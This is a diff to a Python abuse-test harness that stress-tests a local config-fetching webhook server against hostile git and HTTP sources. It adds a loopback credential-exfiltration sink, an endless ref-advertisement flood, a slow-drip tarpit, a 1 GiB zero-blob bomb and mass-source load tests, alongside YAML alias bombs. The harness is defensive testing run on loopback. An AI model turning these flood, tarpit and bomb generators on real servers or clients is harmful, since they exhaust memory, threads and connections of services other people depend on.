@@ -27,9 +27,10 @@ def free_port():
 
 
 class Server:
-    def __init__(self, *flags):
+    def __init__(self, *flags, cache=None):
+        self.sampler = None
         self.hook, self.probe = free_port(), free_port()
-        self.cache = tempfile.mkdtemp(prefix="metahooks-abuse-")
+        self.cache = cache or tempfile.mkdtemp(prefix="metahooks-abuse-")
         self.proc = subprocess.Popen(
             [BINARY, "serve", "--listen", f"127.0.0.1:{self.hook}", "--probe-listen",
              f"127.0.0.1:{self.probe}", "--cache-dir", self.cache, "--shutdown-delay-seconds", "1",
@@ -121,10 +122,58 @@ def validated(data):
 ROWS = []
 
 
-def report(attack, server, started, outcome):
+def report(attack, server, started, outcome, extra=""):
     elapsed = time.time() - started
     leftover = server.leftover_cpu()
-    ROWS.append((attack, f"{server.peak_mib():.0f}", f"{elapsed:.2f}", outcome, f"{leftover:.2f}", str(server.threads())))
+    peak = max(server.peak_mib(), server.sampler.peak_mib()) if server.sampler else server.peak_mib()
+    threads = str(server.threads())
+    if server.sampler:
+        threads = f"{server.sampler.threads_before} → {threads}"
+    ROWS.append((attack, f"{peak:.0f}", f"{elapsed:.2f}", outcome, f"{leftover:.2f}", threads, extra))
+
+
+def rss_kib(pid):
+    try:
+        with open(f"/proc/{pid}/status") as f:
+            for line in f:
+                if line.startswith("VmRSS:"):
+                    return int(line.split()[1])
+    except OSError:
+        pass
+    return 0
+
+
+def children(pid):
+    try:
+        with open(f"/proc/{pid}/task/{pid}/children") as f:
+            return [int(c) for c in f.read().split()]
+    except OSError:
+        return []
+
+
+class Sampler:
+    """Peak of the server's RSS plus its fetch workers' (sampled every 20 ms), and the
+    most workers seen at once."""
+
+    def __init__(self, server):
+        self.pid = server.proc.pid
+        self.threads_before = server.threads()
+        self.peak_kib = 0
+        self.most_workers = 0
+        self.running = True
+        self.thread = threading.Thread(target=self.run, daemon=True)
+        self.thread.start()
+
+    def run(self):
+        while self.running:
+            workers = children(self.pid)
+            total = rss_kib(self.pid) + sum(rss_kib(w) for w in workers)
+            self.peak_kib = max(self.peak_kib, total)
+            self.most_workers = max(self.most_workers, len(workers))
+            time.sleep(0.02)
+
+    def peak_mib(self):
+        return self.peak_kib / 1024
 
 
 def nested_alias_bomb(levels, fan_out, pad=0):
@@ -312,11 +361,292 @@ def attack_tree_bomb():
         time.sleep(0.1)
     report("git tree bomb, 6 levels x 100 entries", server, started, outcome)
     took = server.stop()
-    ROWS.append(("  SIGTERM to exit after the tree bomb", "", f"{took:.2f}" if took else "killed", "", "", ""))
+    ROWS.append(("  SIGTERM to exit after the tree bomb", "", f"{took:.2f}" if took else "killed", "", "", "", ""))
     daemon.terminate()
 
 
+SOURCE_FLAGS = ("--allow-scheme", "git,http", "--allow-private-addresses")
+
+
+def service_request(name, source, namespace="team-a", related=None, children_=None):
+    return json.dumps({
+        "controller": {"spec": {"hooks": {"sync": {"version": "v2"}}}},
+        "parent": {"apiVersion": "services.example.com/v1alpha1", "kind": "MonitoredService",
+                   "metadata": {"name": name, "namespace": namespace, "uid": f"u-{namespace}-{name}", "generation": 1},
+                   "spec": {"image": "app:1", "source": source}},
+        "children": children_ or {}, "related": related or {}, "finalizing": False}).encode()
+
+
+def fetched_of(data):
+    try:
+        conditions = json.loads(data)["status"].get("conditions", [])
+    except (ValueError, KeyError):
+        return None
+    for c in conditions:
+        if c["type"] == "Fetched":
+            return c
+    return None
+
+
+def sync_until_fetched(server, request, limit=90):
+    """Syncs until Fetched is no longer pending; returns (outcome, seconds)."""
+    started = time.time()
+    while time.time() - started < limit:
+        code, data = post(server.hook, "/monitoredservice/sync", request)
+        fetched = fetched_of(data)
+        if fetched and fetched["reason"] != "FetchPending":
+            return f"{code} Fetched={fetched['status']} {fetched['reason']}", time.time() - started
+        time.sleep(0.05)
+    return "still pending", time.time() - started
+
+
+class Hostile:
+    """A hostile TCP remote on loopback: each connection runs `behave(conn)` in a thread;
+    records bytes sent and how long connections stayed open."""
+
+    def __init__(self, behave):
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(512)
+        self.port = self.sock.getsockname()[1]
+        self.behave = behave
+        self.sent = 0
+        self.lifetimes = []
+        self.requests = []
+        self.lock = threading.Lock()
+        threading.Thread(target=self.accept, daemon=True).start()
+
+    def accept(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self.serve, args=(conn,), daemon=True).start()
+
+    def serve(self, conn):
+        opened = time.time()
+        try:
+            conn.settimeout(120)
+            head = conn.recv(65536)
+            with self.lock:
+                self.requests.append(head)
+            self.behave(self, conn, head)
+        except OSError:
+            pass
+        finally:
+            conn.close()
+            with self.lock:
+                self.lifetimes.append(time.time() - opened)
+
+    def send(self, conn, data):
+        conn.sendall(data)
+        with self.lock:
+            self.sent += len(data)
+
+    def wait_closed(self, count, limit=60):
+        started = time.time()
+        while time.time() - started < limit:
+            with self.lock:
+                if len(self.lifetimes) >= count:
+                    return max(self.lifetimes)
+            time.sleep(0.05)
+        return None
+
+
+def ref_flood(http):
+    def behave(hostile, conn, head):
+        if http:
+            hostile.send(conn, b"HTTP/1.1 200 OK\r\nContent-Type: application/x-git-upload-pack-advertisement\r\n"
+                               b"Content-Length: 100000000000\r\n\r\n001e# service=git-upload-pack\n0000")
+        n = 0
+        while True:
+            batch = []
+            for _ in range(2048):
+                line = f"{n + 1:040x} refs/heads/r{n}" + ("\0multi_ack\n" if n == 0 else "\n")
+                batch.append(f"{len(line) + 4:04x}{line}")
+                n += 1
+            hostile.send(conn, "".join(batch).encode())
+    return behave
+
+
+def tarpit(hostile, conn, head):
+    hostile.send(conn, b"ffff")
+    while True:
+        time.sleep(1.0)
+        hostile.send(conn, b"a")
+
+
+def git_repo(files, big=None):
+    """A bare repository served by git daemon: files (path -> bytes), and optionally
+    `big` = (path, size) of zeros written straight into the object store."""
+    root = tempfile.mkdtemp(prefix="metahooks-src-")
+    bare = os.path.join(root, "config.git")
+    subprocess.run(["git", "init", "-q", "--bare", "--initial-branch=main", bare], check=True)
+    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}
+
+    def git(args, data=b""):
+        return subprocess.run(["git", *args], cwd=bare, input=data, capture_output=True, check=True, env=env).stdout.decode().strip()
+
+    entries = []
+    for path, content in files.items():
+        entries.append(f"100644 blob {git(['hash-object', '-w', '--stdin'], content)}\t{path}\n")
+    if big:
+        path, size = big
+        with subprocess.Popen(["git", "hash-object", "-w", "--stdin"], cwd=bare, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as p:
+            chunk = b"\0" * (1 << 20)
+            for _ in range(size >> 20):
+                p.stdin.write(chunk)
+            p.stdin.close()
+            blob = p.stdout.read().decode().strip()
+        entries.append(f"100644 blob {blob}\t{path}\n")
+    tree = git(["mktree"], "".join(entries).encode())
+    commit = git(["commit-tree", tree, "-m", "c"])
+    git(["update-ref", "refs/heads/main", commit])
+    port = free_port()
+    daemon = subprocess.Popen(["git", "daemon", "--reuseaddr", "--export-all", f"--base-path={root}",
+                               "--listen=127.0.0.1", f"--port={port}", root],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.time() + 10
+    while time.time() < deadline:
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=1).close()
+            break
+        except OSError:
+            time.sleep(0.05)
+    return f"git://127.0.0.1:{port}/config.git", daemon
+
+
+def sourced_server(*flags, cache=None):
+    server = Server(*SOURCE_FLAGS, *flags, cache=cache)
+    server.sampler = Sampler(server)
+    return server
+
+
+def finish(server):
+    server.sampler.running = False
+    server.stop()
+
+
+def attack_exfiltration():
+    import base64
+    sink = Hostile(lambda h, conn, head: h.send(conn, b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n"))
+    server = sourced_server()
+    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds", "namespace": "team-a"},
+              "data": {"token": base64.b64encode(b"TOKEN-exfil").decode(), "username": base64.b64encode(b"deploy-bot").decode()}}
+    started = time.time()
+    outcomes = []
+    for kind, url in (("git", f"http://127.0.0.1:{sink.port}/repo.git"), ("http", f"http://127.0.0.1:{sink.port}/app.env")):
+        request = service_request(f"x-{kind}", {kind: {"url": url, "secretRef": {"name": "creds"}}},
+                                  related={"Secret.v1": {"team-a/creds": secret}})
+        outcomes.append(sync_until_fetched(server, request)[0])
+    leaked = sum(1 for r in sink.requests if b"TOKEN-exfil" in r or b"authorization" in r.lower())
+    report("Secret without allowed-urls sent to an attacker's git and HTTP URLs", server, started,
+           "; ".join(sorted(set(outcomes))), f"{len(sink.requests)} requests, {leaked} with credentials")
+    finish(server)
+
+
+def attack_ref_flood(http):
+    flood = Hostile(ref_flood(http))
+    server = sourced_server()
+    scheme = "http" if http else "git"
+    started = time.time()
+    outcome, _ = sync_until_fetched(server, service_request("flood", {"git": {"url": f"{scheme}://127.0.0.1:{flood.port}/r.git"}}))
+    closed = flood.wait_closed(1)
+    report(f"endless ref advertisement over {scheme}://", server, started, outcome,
+           f"{flood.sent / 2**20:.0f} MiB sent, closed after {closed:.1f} s" if closed else "still open")
+    finish(server)
+
+
+def attack_blob_bomb():
+    url, daemon = git_repo({"ok.env": b"A=1\n"}, big=("app.env", 1 << 30))
+    cache = tempfile.mkdtemp(prefix="metahooks-abuse-")
+    server = sourced_server(cache=cache)
+    started = time.time()
+    outcome, _ = sync_until_fetched(server, service_request("bomb", {"git": {"url": url, "path": "app.env"}}))
+    report("1 GiB zero blob as the config file (1 MB pack)", server, started, outcome)
+    server.proc.kill()
+    server.proc.wait()
+    server.sampler.running = False
+    again = sourced_server(cache=cache)
+    started = time.time()
+    outcome, _ = sync_until_fetched(again, service_request("bomb", {"git": {"url": url, "path": "app.env"}}))
+    report("  the same after kill -9 and a restart on the same cache", again, started, outcome)
+    finish(again)
+    daemon.terminate()
+
+
+def attack_tarpits(count=200):
+    honest_url, daemon = git_repo({"app.env": b"HONEST=1\n"})
+    # Baseline: the honest source alone.
+    server = sourced_server()
+    _, baseline = sync_until_fetched(server, service_request("honest", {"git": {"url": honest_url, "path": "app.env"}}, namespace="honest"))
+    finish(server)
+    pit = Hostile(tarpit)
+    server = sourced_server()
+    started = time.time()
+    for i in range(count):
+        post(server.hook, "/monitoredservice/sync", service_request(f"pit-{i}", {"git": {"url": f"git://127.0.0.1:{pit.port}/r{i}.git"}}, namespace="attacker"))
+    outcome, honest = sync_until_fetched(server, service_request("honest", {"git": {"url": honest_url, "path": "app.env"}}, namespace="honest"))
+    # Let every tarpit reach its deadline (8 workers, 2 for the attacker's namespace).
+    closed = pit.wait_closed(2, limit=60)
+    report(f"{count} tarpits in one namespace, an honest source in another", server, started,
+           f"honest: {outcome} in {honest:.2f} s (alone: {baseline:.2f} s)",
+           f"first tarpits closed after {closed:.1f} s; {server.sampler.most_workers} workers at most" if closed else "tarpits still open")
+    finish(server)
+    daemon.terminate()
+
+
+def attack_many_http_sources(count=300, size=1 << 20):
+    import http.server
+
+    class Files(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            n = self.path.strip("/").split(".")[0]
+            body = (f"# file {n}\n" + "".join(f"K{n}_{i}=" + "v" * 100 + "\n" for i in range(size // 110))).encode()[:size]
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Files)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    port = httpd.server_address[1]
+    server = sourced_server()
+    started = time.time()
+    pending = set(range(count))
+    deadline = time.time() + 240
+    while pending and time.time() < deadline:
+        for i in sorted(pending):
+            code, data = post(server.hook, "/monitoredservice/sync", service_request(f"s{i}", {"http": {"url": f"http://127.0.0.1:{port}/{i}.env"}}))
+            fetched = fetched_of(data)
+            if fetched and fetched["reason"] != "FetchPending":
+                pending.discard(i)
+        time.sleep(0.2)
+    report(f"{count} MonitoredServices, each on its own ~1 MB HTTP file", server, started,
+           f"{count - len(pending)} of {count} fetched")
+    finish(server)
+    httpd.shutdown()
+
+
+def attack_sources():
+    attack_exfiltration()
+    attack_ref_flood(http=False)
+    attack_ref_flood(http=True)
+    attack_blob_bomb()
+    attack_tarpits()
+    attack_many_http_sources()
+
+
 def main():
+    # ABUSE_ONLY=sources runs the source attacks alone.
+    if os.environ.get("ABUSE_ONLY") == "sources":
+        attack_sources()
+        return table()
     attack_definition("YAML nested alias bomb (anchors of anchors, 100^6 nodes)", nested_alias_bomb(6, 100, pad=32 * 1024))
     attack_definition("YAML flat alias bomb", flat_alias_bomb(200 * 1024))
     attack_definition("$ref cycle", "openapi: 3.0.0\ninfo: {title: t, version: '1'}\npaths:\n  /a:\n    get:\n      parameters: [{$ref: '#/components/parameters/P0'}]\n      responses: {'200': {description: ok}}\ncomponents:\n  parameters:\n    P0: {$ref: '#/components/parameters/P0'}\n")
@@ -327,7 +657,12 @@ def main():
     attack_uploads()
     attack_slow_clients()
     attack_tree_bomb()
-    header = ("attack", "peak RSS MiB", "seconds", "outcome", "CPU s in 2 s after", "threads")
+    attack_sources()
+    table()
+
+
+def table():
+    header = ("attack", "peak RSS MiB (server + workers)", "seconds", "outcome", "CPU s in 2 s after", "threads", "remote's side")
     print("| " + " | ".join(header) + " |")
     print("|" + "---|" * len(header))
     for row in ROWS:
